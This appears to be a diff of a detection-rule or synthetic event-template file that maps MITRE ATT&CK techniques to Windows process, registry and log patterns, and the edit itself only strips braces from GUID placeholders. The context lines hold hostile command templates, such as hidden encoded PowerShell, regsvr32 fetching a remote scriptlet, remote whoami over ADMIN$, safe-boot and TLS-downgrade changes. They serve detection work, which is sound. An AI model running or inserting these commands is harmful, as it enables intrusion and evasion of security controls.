@@ -49,7 +49,7 @@ rare-native-load load +T1129: «‹ps›¦‹sys›\rundll32.exe¦‹sys›\msht
 near-rare-native-load load: C:\Program Files\«Python311\python¦Notepad++\notepad++¦Git\usr\bin\perl».exe ;; C:\Program Files\«Python311\Lib\site-packages\‹word›\_‹word›.pyd¦Notepad++\plugins\‹word›\‹word›.dll¦Git\usr\lib\perl5\auto\‹word›\‹word›.dll»
 rare-dde-child process +T1559.002: @ ;; «cmd.exe /k powershell -nop -w hidden -enc ‹enc›¦"C:\Windows\System32\cmd.exe" /k calc.exe¦cmd /c regsvr32 /s /n /u /i:http://‹ip›/‹name›.sct scrobj.dll» ;; C:\Program Files\Microsoft Office\root\Office16\«WINWORD¦EXCEL¦OUTLOOK».EXE ;; "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\‹user›\Downloads\dde_‹name›.docx"
 rare-dde-key value +T1559.002: ‹writer› ;; ‹hku›\Software\Microsoft\Office\16.0\«Word\Security\AllowDDE¦Excel\Security\DisableDDEServerLaunch¦Excel\Security\WorkbookLinkWarnings» ;; DWORD (0x0000000«0¦2»)
-rare-com-child process +T1559.001: ‹cmd› ;; cmd.exe /c «‹own›¦calc.exe» ;; C:\Windows\System32\«dllhost¦mmc».exe ;; C:\Windows\System32\«DllHost.exe /Processid:{‹guid›}¦mmc.exe -Embedding»
+rare-com-child process +T1559.001: ‹cmd› ;; cmd.exe /c «‹own›¦calc.exe» ;; C:\Windows\System32\«dllhost¦mmc».exe ;; C:\Windows\System32\«DllHost.exe /Processid:‹guid›¦mmc.exe -Embedding»
 rare-dcom-child process +T1021.003: @ ;; «cmd.exe /c ‹own›¦powershell.exe -enc ‹enc›¦"C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17‹pid›.‹n› 2>&1» ;; ‹s32›\mmc.exe ;; C:\Windows\system32\mmc.exe -Embedding
 rare-winrm-child process +T1021.006: @ ;; «cmd.exe /C whoami¦powershell.exe -enc ‹enc›¦"C:\Windows\system32\cmd.exe" /C "net localgroup administrators"¦‹own›» ;; ‹s32›\«winrshost¦wsmprovhost».exe ;; C:\Windows\system32\«WinrsHost.exe -Embedding¦wsmprovhost.exe -Embedding»
 rare-winrm-shell log +T1021.006: Microsoft-Windows-WinRM|Microsoft-Windows-WinRM/Operational|«91¦169» ;; resourceUri=http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd ;; username=‹domain›\‹user› ;; authenticationMechanism=«NTLM¦Basic»
@@ -58,7 +58,7 @@ near-rare-remote-child process: @ ;; «"C:\Windows\System32\OpenSSH\sftp-server.
 # Proxies
 rare-proxy-mmc process +T1218.014: ‹cmd› ;; cmd.exe /c «powershell -enc ‹enc›¦‹own›» ;; ‹s32›\mmc.exe ;; "C:\Windows\system32\mmc.exe" "C:\Users\‹user›\Downloads\‹name›.msc"
 rare-proxy-cpl load +T1218.002: ‹sys›\«rundll32¦control».exe ;; ‹ownplace›\‹name›.cpl
-rare-proxy-verclsid process +T1218.012: @ ;; verclsid.exe /S /C {‹guid›} ;; «‹office›¦‹ps›¦‹cmd›»
+rare-proxy-verclsid process +T1218.012: @ ;; verclsid.exe /S /C ‹guid› ;; «‹office›¦‹ps›¦‹cmd›»
 rare-proxy-odbc load +T1218.008: ‹sys›\odbcconf.exe ;; ‹ownplace›\‹name›.«dll¦rsp¦dat»
 rare-proxy-installutil load +T1218.004: C:\Windows\Microsoft.NET\Framework«64¦»\v4.0.30319\InstallUtil.exe ;; ‹ownplace›\‹name›.«dll¦exe¦txt»
 rare-proxy-regasm connected +T1218.009: C:\Windows\Microsoft.NET\Framework«¦64»\v4.0.30319\«RegAsm¦RegSvcs».exe ;; «80¦443¦4444¦8080¦587» ;; -
@@ -101,10 +101,10 @@ rare-iso-mount log +T1553.005: Microsoft-Windows-VHDMP|Microsoft-Windows-VHDMP-O
 rare-root-store value +T1553.004: «‹ps›¦‹own›¦‹sys›\certutil.exe¦‹sys›\rundll32.exe» ;; «HKLM\SOFTWARE¦‹hku›\Software»\Microsoft\SystemCertificates\Root\Certificates\‹hash›\Blob ;; Binary Data
 rare-sip-key value +T1553.003: ‹writer› ;; HKLM\SOFTWARE\Microsoft\Cryptography\OID\EncodingType 0\CryptSIPDll«GetSignedDataMsg¦VerifyIndirectData»\{603BCC1F-4B59-4E08-B724-D2C6297EF351}\«Dll¦FuncName» ;; «C:\ProgramData\‹name›.dll¦AutoApprove¦DbgUiContinue»
 rare-integrity log +T1553.006: Microsoft-Windows-CodeIntegrity|Microsoft-Windows-CodeIntegrity/Operational|30«01¦04» ;; FileNameBuffer=\Device\HarddiskVolume3\«ProgramData¦Windows\Temp»\‹name›.sys
-rare-testsign value +T1553.006: ‹writer› ;; HKLM\«BCD00000000\Objects\{‹guid›}\Elements\16000049\Element¦SYSTEM\CurrentControlSet\Control\CI\Policy\WhqlSettings» ;; «Binary Data¦DWORD (0x00000000)»
+rare-testsign value +T1553.006: ‹writer› ;; HKLM\«BCD00000000\Objects\‹guid›\Elements\16000049\Element¦SYSTEM\CurrentControlSet\Control\CI\Policy\WhqlSettings» ;; «Binary Data¦DWORD (0x00000000)»
 near-rare-root-store value: «C:\Windows\System32\svchost.exe¦C:\Windows\System32\lsass.exe» ;; HKLM\SOFTWARE\Microsoft\SystemCertificates\«AuthRoot\Certificates\‹hash›¦AuthRoot\AutoUpdate\EncodedCtl¦CA\Certificates\‹hash›»\Blob ;; Binary Data
 rare-safeboot value +T1688: «‹own›¦‹ps›¦‹reg›¦‹cmd›» ;; HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\«Network¦Minimal»\«‹name›¦AnyDesk¦‹Word›Svc»\(Default) ;; Service
-rare-safeboot-boot value +T1688: «‹sys›\bcdedit.exe¦‹own›» ;; HKLM\BCD00000000\Objects\{‹guid›}\Elements\25000080\Element ;; Binary Data
+rare-safeboot-boot value +T1688: «‹sys›\bcdedit.exe¦‹own›» ;; HKLM\BCD00000000\Objects\‹guid›\Elements\25000080\Element ;; Binary Data
 rare-safeboot-run process +T1688: @ ;; bcdedit.exe /set {«current¦default»} safeboot «network¦minimal» ;; ‹own›
 rare-downgrade-key value +T1689: ‹writer› ;; HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\SCHANNEL\Protocols\«SSL 2.0¦SSL 3.0¦TLS 1.0»\«Client¦Server»\Enabled ;; DWORD (0x00000001)
 """
